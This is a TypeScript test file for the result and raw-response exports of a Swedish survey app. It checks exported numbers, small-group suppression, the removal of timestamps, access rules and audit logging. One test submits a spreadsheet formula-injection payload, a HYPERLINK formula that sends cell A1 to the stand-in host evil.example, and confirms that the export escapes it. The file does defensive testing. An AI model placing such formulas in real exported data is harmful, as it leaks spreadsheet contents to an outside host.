import { createRequire } from 'node:module';
import type { TChoiceQuestionResult, TWaveResults } from '@enkat/survey-schema';
import ExcelJS from 'exceljs';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportHeaderTexts } from '../src/exports/export-model.js';
import { buildResults } from '../src/results/build-results.js';
import { demo2012Responses } from '../src/surveys/demo-2012-responses.js';
import { seedDemoSurvey } from '../src/surveys/demo-data.js';
import { buildTestApp, createAdmin, login, resetDatabase, type TTestApp } from './helpers.js';
import { ANSWERS_2012, adminCaller, closeWaveNow, publishedWave, submit } from './survey-helpers.js';

const STANDARD_FONTS = createRequire(import.meta.url)
  .resolve('pdfjs-dist/package.json')
  .replace(/package\.json$/, 'standard_fonts/');
const MARKER = exportHeaderTexts('sv', 5).suppressedMarker;
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")';

let t: TTestApp;
let analyst: string;
let editor: string;
let waveId: string;
let results: TWaveResults;
let byRole: TWaveResults;

beforeAll(async () => {
  t = await buildTestApp();
  await resetDatabase(t.db);
  await seedDemoSurvey(t.db, t.app.keys);
  waveId = (await t.db.wave.findFirstOrThrow({ where: { name: '2012' }, select: { id: true } })).id;
  analyst = await login(t.app, (await createAdmin(t.db, 'analyst')).email);
  editor = await login(t.app, (await createAdmin(t.db, 'editor')).email);
  results = await buildResults(t.db, waveId);
  byRole = await buildResults(t.db, waveId, { breakdown: 'q9' });
});
afterAll(() => t.app.close());

async function download(file: string, query = '', cookie = analyst, wave = waveId) {
  return t.app.inject({ method: 'GET', url: `/api/v1/waves/${wave}/exports/${file}${query}`, headers: { cookie } });
}

async function workbook(body: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(body as unknown as ArrayBuffer);
  return book;
}

/** A sheet's rows as plain values, row 1 first (exceljs rows are 1-based). */
function sheetRows(sheet: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row, n) => {
    rows[n - 1] = (row.values as unknown[]).slice(1);
  });
  return Array.from(rows, (row) => row ?? []);
}

function choiceQuestion(of: TWaveResults, id: string): TChoiceQuestionResult {
  const found = of.questions.find((q) => q.questionId === id);
  if (!found || found.type === 'free_text') throw new Error(`no choice question ${id}`);
  return found;
}

async function pdfText(pdf: Buffer): Promise<string> {
  const document = await getDocument({ data: new Uint8Array(pdf), standardFontDataUrl: STANDARD_FONTS }).promise;
  const runs: string[] = [];
  for (let n = 1; n <= document.numPages; n++) {
    const content = await (await document.getPage(n)).getTextContent();
    for (const item of content.items) if ('str' in item) runs.push(item.str.replaceAll('\u00a0', ' '));
  }
  await document.destroy();
  return runs.join('\n');
}

describe('results exports of the 2012 demo wave', () => {
  it('XLSX: the Q1..Q6 sheets hold exactly the numbers of the results API', async () => {
    const response = await download('results.xlsx');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="Socialtjanstenkaten-2012-resultat\.xlsx"/,
    );
    expect(response.headers['content-disposition']).toContain(
      "filename*=UTF-8''Socialtj%C3%A4nstenk%C3%A4ten-2012-resultat.xlsx",
    );
    const english = await download('report.pdf', '?lang=en');
    expect(english.headers['content-disposition']).toMatch(/filename="Socialtjanstenkaten-2012-report\.pdf"/);
    const book = await workbook(response.rawPayload);
    const summary = sheetRows(book.worksheets[0] as ExcelJS.Worksheet);
    expect(summary[0]).toEqual(['Socialtjänstenkäten 2012']);
    expect(summary[1]).toEqual(['Omgång', '2012']);
    expect(String(summary[2]?.[1])).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(summary[3]?.[0]).toContain('färre än 5 svar');

    for (const [i, id] of ['q1', 'q2', 'q3', 'q4', 'q5', 'q6'].entries()) {
      const table = choiceQuestion(results, id).table;
      if (!table) throw new Error(`${id} withheld`);
      const rows = sheetRows(book.worksheets[i + 1] as ExcelJS.Worksheet);
      expect(rows[0]).toEqual([choiceQuestion(results, id).text]);
      expect(rows[2]).toEqual(['Alternativ', 'Procent', 'Värden', 'Felmarginal']);
      const body = rows.slice(3, 3 + table.rows.length);
      expect(body.map((row) => row.slice(0, 3))).toEqual(table.rows.map((row) => [row.label, row.percent, row.count]));
      expect(rows[3 + table.rows.length]?.slice(0, 3)).toEqual(['Totalt', undefined, table.total]);
    }
    const q1 = sheetRows(book.worksheets[1] as ExcelJS.Worksheet);
    expect(q1[3]?.slice(0, 3)).toEqual(['Ja', 72.8, 131]);
  });

  it('XLSX by role: the small group reads its marker, never its count, and its complement the other marker', async () => {
    const response = await download('results.xlsx', '?breakdown=q9');
    expect(response.statusCode).toBe(200);
    const book = await workbook(response.rawPayload);
    const q2 = choiceQuestion(byRole, 'q2');
    const groups = q2.breakdown ?? [];
    const hidden = groups.findIndex((g) => g.suppressed && g.reason === 'small_group');
    expect(hidden, 'the demo wave has a suppressed role group').toBeGreaterThanOrEqual(0);
    const group = groups[hidden];
    if (!group) throw new Error('unreachable');

    // The group's real counts, straight from the database, so the test knows what must not appear.
    const real = await t.db.$queryRaw<{ n: number }[]>`
      SELECT count(*)::int AS n FROM response_choice c
        JOIN response_choice g ON g.response_id = c.response_id AND g.question_id = 'q9' AND g.option_id = ${group.key}
       WHERE c.wave_id = ${waveId}::uuid AND c.question_id = 'q2'
       GROUP BY c.option_id`;
    expect(real.length).toBeGreaterThan(0);

    const rows = sheetRows(book.worksheets[2] as ExcelJS.Worksheet);
    const header = rows[2] ?? [];
    const percentColumn = header.indexOf(`${group.label}: procent`);
    const countColumn = header.indexOf(`${group.label}: antal`);
    expect(percentColumn).toBeGreaterThan(0);
    const table = q2.table;
    if (!table) throw new Error('q2 withheld');
    for (const row of rows.slice(3, 3 + table.rows.length)) {
      expect(row[percentColumn]).toBe(MARKER);
      expect(row[countColumn]).toBe(MARKER);
    }
    expect(rows[3 + table.rows.length]?.[countColumn]).toBe(MARKER);
    const complement = groups.find((g) => g.suppressed && g.reason === 'protects_small_group');
    expect(complement, 'the demo wave hides one more role to protect the small one').toBeDefined();
    const complementColumn = header.indexOf(`${complement?.label}: antal`);
    expect(rows[3]?.[complementColumn]).toBe(exportHeaderTexts('sv', 5).protectedMarker);
    for (const row of rows) {
      for (const column of [percentColumn, countColumn]) expect(typeof row[column]).not.toBe('number');
    }
    // The shown groups carry the API's numbers.
    const shown = groups.find((g) => !g.suppressed);
    if (shown && !shown.suppressed) {
      const column = header.indexOf(`${shown.label}: antal`);
      expect(rows.slice(3, 3 + table.rows.length).map((row) => row[column])).toEqual(
        table.rows.map((r) => shown.rows.find((x) => x.optionId === r.optionId)?.count),
      );
    }
  });

  it('PDF: the same numbers and the marker', async () => {
    const response = await download('report.pdf', '?breakdown=q9');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    const text = await pdfText(response.rawPayload);
    expect(text).toContain('Socialtjänstenkäten 2012');
    expect(text).toContain('72,8');
    expect(text).toContain(MARKER);
  });

  it('CSV variants start with the header lines', async () => {
    const plain = await download('results.csv');
    expect(plain.statusCode).toBe(200);
    expect(plain.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(plain.body.startsWith('Socialtjänstenkäten 2012\r\nOmgång,2012\r\nExportdatum,')).toBe(true);
    expect(plain.body).toContain('Ja,72.8,131,');

    const excel = await download('results-excel-sv.csv');
    expect(excel.statusCode).toBe(200);
    expect(excel.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(excel.body.replace(/^\uFEFF/, '').startsWith('Socialtjänstenkäten 2012\r\nOmgång;2012\r\n')).toBe(true);
    expect(excel.body).toContain('Ja;72,8;131;');
  });

  it('English labels with ?lang=en', async () => {
    const response = await download('results.csv', '?lang=en');
    expect(response.body).toContain('Wave,2012');
    expect(response.body).toContain('Option,Percent,Count,Margin of error');
  });

  it('records who exported what, and nothing about respondents', async () => {
    await download('results.csv', '?breakdown=q9');
    const events = await t.db.auditEvent.findMany({ where: { action: 'results_exported', objectId: waveId } });
    expect(events.length).toBeGreaterThan(0);
    expect(events.map((e) => e.details)).toContainEqual({ file: 'results.csv', breakdown: 'q9' });
  });

  it('refuses unknown files, and lets the editor download too', async () => {
    expect([404, 422]).toContain((await download('secrets.xlsx')).statusCode);
    expect((await download('results.csv', '', editor)).statusCode).toBe(200);
    expect((await download('results.csv', '?breakdown=q1')).statusCode).toBe(422);
  });
});

describe('raw responses export', () => {
  async function responseRows(): Promise<{ columns: unknown[]; rows: unknown[][] }> {
    const response = await download('responses.xlsx');
    expect(response.statusCode).toBe(200);
    const book = await workbook(response.rawPayload);
    const sheet = book.getWorksheet('Svar');
    if (!sheet) throw new Error('no Svar sheet');
    const all = sheetRows(sheet);
    return { columns: all[6] ?? [], rows: all.slice(7) };
  }

  it('has one row per response, no timestamps, in an order unrelated to when anyone answered', async () => {
    const first = await responseRows();
    expect(first.rows).toHaveLength(185);
    expect(first.columns[0]).toMatch(/^q1 /);
    expect(first.columns[1]).toBe('q1 kod');
    for (const row of first.rows) {
      for (const cell of row) {
        expect(cell instanceof Date).toBe(false);
        expect(String(cell ?? '')).not.toMatch(/\d{4}-\d{2}-\d{2}|\d{1,2}:\d{2}|[0-9a-f]{8}-[0-9a-f]{4}-/i);
      }
    }
    // The demo answered in a known order (demo-2012-responses.ts); the file's order is the random ids'.
    const submitted = demo2012Responses().map((a) => String(a.q1 ?? ''));
    expect(first.rows.map((row) => String(row[1] ?? ''))).not.toEqual(submitted);
    // Same rows: the labels of Q1 count as in the results.
    const ja = choiceQuestion(results, 'q1').table?.rows.find((r) => r.optionId === 'ja')?.count;
    expect(first.rows.filter((row) => row[0] === 'Ja')).toHaveLength(ja ?? -1);
  });

  it('blanks the background answers the tables hide, as if skipped: no marker gives them away', async () => {
    const { columns, rows } = await responseRows();
    const role = columns.findIndex((c) => String(c).startsWith('q9 '));
    const roles = rows.map((row) => row[role]);
    expect(roles).not.toContain('Annan');
    expect(rows.map((row) => row[role + 1])).not.toContain('annan');
    for (const row of rows) for (const cell of row) expect(String(cell ?? '')).not.toContain(MARKER);
    const shown = choiceQuestion(results, 'q9').table?.rows.filter((r) => r.hidden === null) ?? [];
    expect(shown.length).toBeGreaterThan(0);
    for (const row of shown) expect(roles.filter((v) => v === row.label).length).toBeGreaterThan(0);
  });

  it('puts the comments apart, one per row with only their question', async () => {
    const response = await download('responses.xlsx');
    const book = await workbook(response.rawPayload);
    const answers = sheetRows(book.getWorksheet('Svar') as ExcelJS.Worksheet);
    expect((answers[6] ?? []).some((c) => /^q(7|8|12) /.test(String(c)))).toBe(false);
    const comments = sheetRows(book.getWorksheet('Kommentarer') as ExcelJS.Worksheet);
    expect(comments[6]).toEqual(['Fråga', 'Kommentar']);
    const writers = results.questions.flatMap((q) => (q.type === 'free_text' && q.commentsShown ? [q.writers] : []));
    expect(comments.slice(7)).toHaveLength(writers.reduce((a, b) => a + b, 0));
    const csv = await download('comments.csv');
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain('Fråga,Kommentar');
  });

  it('CSV: header lines, then columns and 185 records, then a closing line a cut file lacks', async () => {
    const response = await download('responses.csv');
    expect(response.statusCode).toBe(200);
    expect(response.body.startsWith('Socialtjänstenkäten 2012\r\n')).toBe(true);
    expect(response.body).toContain('q1 kod');
    expect(response.body.endsWith(`\r\nSlut på filen: ${results.responses} rader.\r\n`)).toBe(true);
    const tables = await download('results.csv');
    expect(tables.body.trimEnd().split('\r\n').at(-1)).toMatch(/^Slut på filen: \d+ tabeller\.$/);
  });

  it('refuses a wave under the minimum group (409) and a wave whose results are not released', async () => {
    const owner = await login(t.app, (await createAdmin(t.db, 'owner')).email);
    const wave = await publishedWave(t.app, owner, { accessMode: 'open_link', settings: { resultsBeforeClose: true } });
    for (let i = 0; i < 2; i++) {
      expect((await submit(t.app, wave.slug ?? '', { answers: ANSWERS_2012 })).statusCode).toBe(201);
    }
    const open = await download('responses.xlsx', '', analyst, wave.id);
    expect(open.statusCode).toBe(409);
    const closed = await adminCaller(t.app, owner)('POST', `/api/v1/waves/${wave.id}/close`);
    expect(closed.statusCode).toBe(200);
    const refused = await download('responses.csv', '', analyst, wave.id);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().detail).toContain('minimum reporting group');

    const hidden = await publishedWave(t.app, owner, { accessMode: 'open_link' });
    for (let i = 0; i < 6; i++) await submit(t.app, hidden.slug ?? '', { answers: ANSWERS_2012 });
    expect((await download('responses.xlsx', '', analyst, hidden.id)).statusCode).toBe(409);
  });

  it('defuses a free-text answer that starts with "=", and omits free text fewer than the minimum wrote', async () => {
    const owner = await login(t.app, (await createAdmin(t.db, 'owner')).email);
    const wave = await publishedWave(t.app, owner, { accessMode: 'open_link', settings: { resultsBeforeClose: true } });
    for (let i = 0; i < 10; i++) {
      const answers = { ...ANSWERS_2012, q7: i === 0 ? HOSTILE : `Kommentar ${i}` };
      expect((await submit(t.app, wave.slug ?? '', { answers })).statusCode).toBe(201);
    }
    await closeWaveNow(t.app, owner, wave.id);
    const response = await download('responses.xlsx', '', analyst, wave.id);
    expect(response.statusCode).toBe(200);
    const sheet = (await workbook(response.rawPayload)).getWorksheet('Kommentarer');
    if (!sheet) throw new Error('no Kommentarer sheet');
    const all = sheetRows(sheet);
    const questions = all.slice(7).map((row) => String(row[0]));
    expect(questions.length).toBeGreaterThan(0);
    expect(questions.every((q) => q.startsWith('q7 '))).toBe(true);
    const texts = all.slice(7).map((row) => row[1]);
    expect(texts).toContain(`'${HOSTILE}`);
    expect(texts).not.toContain(HOSTILE);
    for (const row of all) for (const cell of row) expect(String(cell ?? '')).not.toMatch(/^[=+\-@\t\r]/);

    const csv = await download('comments.csv', '', analyst, wave.id);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka här"")"`);
  });
});
